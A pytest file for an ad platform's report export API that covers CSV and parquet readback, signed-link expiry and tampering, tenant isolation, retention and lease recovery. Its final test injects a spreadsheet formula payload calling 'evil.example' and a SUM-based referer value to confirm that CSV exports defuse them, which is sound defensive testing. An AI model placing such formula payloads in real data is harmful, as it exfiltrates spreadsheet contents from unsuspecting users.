"""POST /v2/reports/export and the poll, on the real app: files read back row by row (csv module,
pyarrow), signed links (expiry, tampering, tenants), failures with a reason, and retention."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlencode, urlsplit

import pyarrow.parquet as pq
import pytest
from starlette.testclient import TestClient

from auctera.app import RootApp
from auctera.domain import ids as idfmt
from auctera.domain.events import Event, EventType
from auctera.domain.ids import IdGenerator
from auctera.domain.reports import ExportFormat, ExportType
from auctera.services.exports import LEASE
from support.clock import FrozenClock

from .conftest import app_at, bearer, error

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)


@pytest.fixture
def clock() -> FrozenClock:
    return FrozenClock(NOW)


@pytest.fixture
def app(tmp_path: Path, clock: FrozenClock) -> Iterator[RootApp]:
    with app_at(tmp_path, clock, "http://trk.example.com") as application:
        yield application


class Advertiser:
    def __init__(self, app: RootApp, client: TestClient, name: str = "Acme") -> None:
        new = app.container.accounts.create_account(name, "advertiser", timezone="Europe/Stockholm")
        self.app, self.client, self.account, self.headers = app, client, new.account, bearer(new.api_key)
        body = {"name": "Spring", "type": "dsp_retargeting", "budget": 10000}
        response = client.post("/v2/campaigns", json=body, headers=self.headers)
        self.campaign = idfmt.parse("cmp", response.json()["campaign_id"])

    def export(self, **body: Any) -> str:
        response = self.client.post("/v2/reports/export", json=body, headers=self.headers)
        assert response.status_code == 202, response.text
        answer = response.json()
        assert set(answer) == {"job_id", "status", "estimated_time_seconds"}  # the seed's shape
        assert answer["status"] == "processing" and answer["estimated_time_seconds"] >= 1
        return str(answer["job_id"])

    def poll(self, job_id: str) -> Any:
        response = self.client.get(f"/v2/reports/export/{job_id}", headers=self.headers)
        assert response.status_code == 200, response.text
        return response.json()


@pytest.fixture
def acme(app: RootApp, client: TestClient) -> Advertiser:
    return Advertiser(app, client)


def clicks(acme: Advertiser, at: datetime, n: int) -> list[Event]:
    logged = IdGenerator(3, lambda: int(at.timestamp() * 1000))  # ids of the time they happened
    events = [
        Event(
            logged.next_id(),
            EventType.CLICK,
            at + timedelta(seconds=i),
            acme.account.id,
            acme.campaign,
            publisher_id=77,
            creative_id=5 if i % 2 else None,
            click_id=f"clk_{i}",
            country="SE",
            cost_micros=250_000 + i,
            payout_micros=200_000,
            ivt=i == 3,
            attrs={"variant": "blue", "referrer": "https://www.forbes.com/x"} if i % 2 else {},
        )
        for i in range(n)
    ]
    acme.app.container.events.append_many(events)
    return events


def unzip(client: TestClient, url: str) -> tuple[str, bytes]:
    response = client.get(url)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        [name] = archive.namelist()
        return name, archive.read(name)


def expected_row(e: Event) -> dict[str, Any]:
    return {
        "event_id": e.id,
        "type": e.type.value,
        "at": e.at,
        "campaign_id": idfmt.render("cmp", e.campaign_id or 0),
        "publisher_id": idfmt.render("pub", e.publisher_id or 0),
        "line_item_id": None,
        # As the API names it: a DCO template's events carry their variant, an asset's none.
        "creative_id": None
        if e.creative_id is None
        else idfmt.render("dco" if "variant" in e.attrs else "ast", e.creative_id),
        "variant": e.attrs.get("variant"),
        "domain": "forbes.com" if "referrer" in e.attrs else None,
        "app_bundle": None,
        "ssp": None,
        "click_id": e.click_id,
        "country": e.country,
        "device_type": None,
        "cost": Decimal(e.cost_micros) / 1_000_000,
        "revenue": Decimal(0),
        "payout": Decimal(e.payout_micros) / 1_000_000,
        "currency": "USD",
        "ivt": e.ivt,
    }


def test_a_parquet_export_reads_back_row_by_row(acme: Advertiser) -> None:
    events = clicks(acme, datetime(2026, 10, 1, 10, tzinfo=UTC), 7)
    clicks(acme, datetime(2026, 10, 2, 10, tzinfo=UTC), 2)  # another day: not in the export
    job_id = acme.export(type="log_level_clicks", date="2026-10-01", format="parquet")
    status = acme.poll(job_id)
    assert status["status"] == "completed" and status["progress"] == 100 and status["rows"] == 7
    assert status["expires_at"] == "2026-11-23T12:15:00Z"
    name, data = unzip(acme.client, status["download_url"])
    assert name == "log_level_clicks_2026-10-01_2026-10-01.parquet"
    rows = pq.read_table(io.BytesIO(data)).to_pylist()
    assert sorted(rows, key=lambda r: r["event_id"]) == [expected_row(e) for e in events]


def test_a_csv_export_reads_back_row_by_row(acme: Advertiser) -> None:
    events = clicks(acme, datetime(2026, 10, 1, 10, tzinfo=UTC), 5)
    job_id = acme.export(
        type="log_level_clicks", start_date="2026-10-01", end_date="2026-10-03", format="csv"
    )
    name, data = unzip(acme.client, acme.poll(job_id)["download_url"])
    assert name.endswith(".csv")
    rows = sorted(csv.DictReader(io.StringIO(data.decode())), key=lambda r: int(r["event_id"]))
    assert len(rows) == len(events)
    for row, event in zip(rows, events, strict=True):
        want = expected_row(event)
        assert row["event_id"] == str(event.id) and row["campaign_id"] == want["campaign_id"]
        assert datetime.fromisoformat(row["at"]) == event.at
        assert Decimal(row["cost"]) == want["cost"] and Decimal(row["payout"]) == want["payout"]
        assert row["creative_id"] == (want["creative_id"] or "") and row["domain"] == (want["domain"] or "")
        assert row["ivt"] == str(event.ivt).lower()


def test_a_daily_export_holds_the_daily_report(acme: Advertiser) -> None:
    clicks(acme, datetime(2026, 10, 1, 21, 59, 57, tzinfo=UTC), 5)  # Stockholm midnight at 22:00Z
    # A sale of Oct 2 logged today, long after the day became final: a restatement.
    late = IdGenerator(3, lambda: int(acme.app.container.clock().timestamp() * 1000)).next_id()
    sale = datetime(2026, 10, 2, 12, tzinfo=UTC)
    acme.app.container.events.append(
        Event(
            late,
            EventType.CONVERSION,
            sale,
            acme.account.id,
            acme.campaign,
            revenue_micros=99_500_000,
            payout_micros=5_000_000,
        )
    )
    job_id = acme.export(type="daily", start_date="2026-10-01", end_date="2026-10-07", format="csv")
    _, data = unzip(acme.client, acme.poll(job_id)["download_url"])
    rows = list(csv.DictReader(io.StringIO(data.decode())))
    assert [(r["date"], r["clicks"], r["finalized"]) for r in rows] == [
        ("2026-10-01", "3", "True"),
        ("2026-10-02", "1", "True"),  # the fourth click is IVT
    ]
    restated = [(r["restated_conversions"], r["restated_revenue"], r["restated_payout"]) for r in rows]
    assert restated == [("", "", ""), ("1", "99.5", "5")]  # the changes: the day keeps its final figures
    assert (rows[1]["conversions"], rows[1]["revenue"]) == ("0", "0")
    report = acme.client.get(
        "/v2/reports/daily",
        params={"start_date": "2026-10-01", "end_date": "2026-10-07"},
        headers=acme.headers,
    ).json()
    assert [Decimal(r["spend"]) for r in rows] == [Decimal(str(d["spend"])) for d in report["data"]]
    parquet_job = acme.export(type="daily", start_date="2026-10-01", end_date="2026-10-07", format="parquet")
    _, data = unzip(acme.client, acme.poll(parquet_job)["download_url"])
    table = pq.read_table(io.BytesIO(data)).to_pylist()
    assert [(str(r["date"]), r["clicks"], r["spend"]) for r in table] == [
        (r["date"], int(r["clicks"]), Decimal(r["spend"])) for r in rows
    ]


def _with(url: str, **changes: Any) -> str:
    parts = urlsplit(url)
    query = {k: v[0] for k, v in parse_qs(parts.query).items()} | changes
    return f"{parts.path}?{urlencode(query)}"


def test_links_expire_and_cannot_be_tampered_with(acme: Advertiser, clock: FrozenClock) -> None:
    clicks(acme, datetime(2026, 10, 1, 10, tzinfo=UTC), 2)
    job_id = acme.export(type="log_level_clicks", date="2026-10-01", format="csv")
    url = acme.poll(job_id)["download_url"]
    expires = int(parse_qs(urlsplit(url).query)["expires"][0])
    error(acme.client.get(_with(url, signature="0" * 64)), 403)
    error(acme.client.get(_with(url, expires=expires + 3600)), 403)  # a longer life is not signed
    error(acme.client.get(_with(url, expires="")), 422)
    bare = urlsplit(url).path
    error(acme.client.get(bare), 403)
    clock.now += timedelta(minutes=14, seconds=59)
    assert acme.client.get(url).status_code == 200
    clock.now += timedelta(seconds=1)  # 15 minutes after it was made
    assert error(acme.client.get(url), 403)["code"] == "link_expired"
    fresh = acme.poll(job_id)["download_url"]  # polling again makes a new one
    assert acme.client.get(fresh).status_code == 200


def test_another_tenant_gets_404(acme: Advertiser, app: RootApp, client: TestClient) -> None:
    clicks(acme, datetime(2026, 10, 1, 10, tzinfo=UTC), 2)
    job_id = acme.export(type="log_level_clicks", date="2026-10-01", format="csv")
    url = acme.poll(job_id)["download_url"]
    other = Advertiser(app, client, "Other")
    error(client.get(f"/v2/reports/export/{job_id}", headers=other.headers), 404, "job_id")
    error(client.get(url, headers=other.headers), 404, "job_id")  # the link is bound to its tenant
    assert client.get(url, headers=acme.headers).status_code == 200
    error(client.get("/v2/reports/export/exp_nothing", headers=other.headers), 404, "job_id")
    campaign = idfmt.render("cmp", acme.campaign or 0)
    body = {"type": "daily", "date": "2026-10-01", "campaign_id": campaign}
    error(client.post("/v2/reports/export", json=body, headers=other.headers), 404, "campaign_id")


def test_bad_requests_name_the_field(acme: Advertiser) -> None:
    def post(**body: Any) -> Any:
        return acme.client.post("/v2/reports/export", json=body, headers=acme.headers)

    error(post(type="everything", date="2026-10-01"), 422, "type")
    error(post(type="daily", date="2026-10-01", format="xlsx"), 422, "format")
    error(post(type="daily"), 422, "date")
    error(post(type="daily", date="2026-10-01", start_date="2026-10-01"), 422, "date")
    error(post(type="daily", start_date="2026-10-05", end_date="2026-10-01"), 422, "end_date")
    error(post(type="daily", start_date="2026-10-05"), 422, "end_date")  # never taken for one day
    error(post(type="daily", end_date="2026-10-05"), 422, "start_date")
    error(post(type="daily", start_date="2026-01-01", end_date="2026-10-01"), 422, "end_date")


@pytest.mark.parametrize("day", ["9999-12-31", "0001-01-01"])
def test_an_export_of_dates_out_of_range_is_refused_up_front(acme: Advertiser, day: str) -> None:
    def post(**body: Any) -> Any:
        return acme.client.post("/v2/reports/export", json=body, headers=acme.headers)

    for type in ("daily", "log_level_impressions"):
        error(post(type=type, date=day), 422, "date")
        error(post(type=type, start_date=day, end_date=day), 422, "start_date")


def test_a_failed_export_says_why(acme: Advertiser, app: RootApp) -> None:
    exports = app.container.settings.exports_dir
    exports.mkdir(parents=True, exist_ok=True)
    (exports / str(acme.account.id)).write_text("in the way")  # the account's directory cannot be made
    job_id = acme.export(type="log_level_clicks", date="2026-10-01", format="csv")
    status = acme.poll(job_id)
    assert status["status"] == "failed" and "download_url" not in status
    assert status["error"].startswith("FileExistsError")


def test_exports_are_deleted_after_the_retention_period(
    acme: Advertiser, app: RootApp, clock: FrozenClock
) -> None:
    clicks(acme, datetime(2026, 10, 1, 10, tzinfo=UTC), 2)
    job_id = acme.export(type="log_level_clicks", date="2026-10-01", format="csv")
    url = acme.poll(job_id)["download_url"]
    files = list(app.container.settings.exports_dir.glob("*/*.zip"))
    assert len(files) == 1
    clock.now += timedelta(days=7, seconds=1)
    app.container.export_runner.sweep()
    assert not files[0].exists()
    assert acme.poll(job_id)["status"] == "expired"
    clock.now = NOW  # the link's own time would still be fine: the file is gone
    error(acme.client.get(url), 404, "job_id")


def test_an_export_left_running_by_a_dead_runner_is_taken_again(
    acme: Advertiser, app: RootApp, clock: FrozenClock
) -> None:
    clicks(acme, datetime(2026, 10, 1, 10, tzinfo=UTC), 3)
    service = app.container.exports
    caller = app.container.auth.authenticate(acme.headers["Authorization"].removeprefix("Bearer "))
    day = date(2026, 10, 1)
    job = service.request(caller, ExportType.LOG_LEVEL_CLICKS, ExportFormat.CSV, day, day)  # no nudge
    claimed = service.claim()
    assert claimed is not None and claimed.id == job.id  # ...and its runner dies (kill -9)
    assert service.claim() is None  # held by the lease
    clock.now += LEASE - timedelta(seconds=1)
    assert app.container.export_runner.run_pending() == 0  # nobody renewed it, but it still holds
    assert acme.poll(idfmt.render("exp", job.id))["status"] == "processing"
    clock.now += timedelta(seconds=2)  # a minute after the crash
    assert app.container.export_runner.run_pending() == 1
    status = acme.poll(idfmt.render("exp", job.id))
    assert status["status"] == "completed" and status["rows"] == 3
    _, data = unzip(acme.client, status["download_url"])
    assert len(list(csv.DictReader(io.StringIO(data.decode())))) == 3


def test_a_csv_export_defuses_cells_a_spreadsheet_would_run(acme: Advertiser, clock: FrozenClock) -> None:
    # A visitor's click carries text a spreadsheet would take for a formula: the link's free-text
    # variant (`cv`) and the host of the Referer.
    body = {"name": "Landing", "type": "dsp_retargeting", "budget": 10000,
            "destination_url": "https://shop.example.com/"}  # fmt: skip
    created = acme.client.post("/v2/campaigns", json=body, headers=acme.headers).json()["campaign_id"]
    campaign = idfmt.parse("cmp", created)
    assert campaign is not None
    acme.app.container.campaigns.review(campaign)
    variant = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    query = urlencode({"c": idfmt.to_base36(campaign), "cv": variant})
    click = acme.client.get(
        f"/click?{query}", headers={"referer": "https://-1+SUM(2)/page"}, follow_redirects=False
    )
    assert click.status_code == 302, click.text
    acme.app.container.events.sync()
    day = clock.now.date().isoformat()

    job_id = acme.export(type="log_level_clicks", date=day, format="csv")
    _, data = unzip(acme.client, acme.poll(job_id)["download_url"])
    [row] = list(csv.DictReader(io.StringIO(data.decode())))
    assert row["variant"] == "'" + variant
    assert row["domain"] == "'-1+sum(2)"
    assert row["campaign_id"] == created  # our own ids and numbers are left as they are

    # Parquet is not a spreadsheet's format: it keeps the values as they came.
    job_id = acme.export(type="log_level_clicks", date=day, format="parquet")
    _, data = unzip(acme.client, acme.poll(job_id)["download_url"])
    [record] = pq.read_table(io.BytesIO(data)).to_pylist()
    assert (record["variant"], record["domain"]) == (variant, "-1+sum(2)")
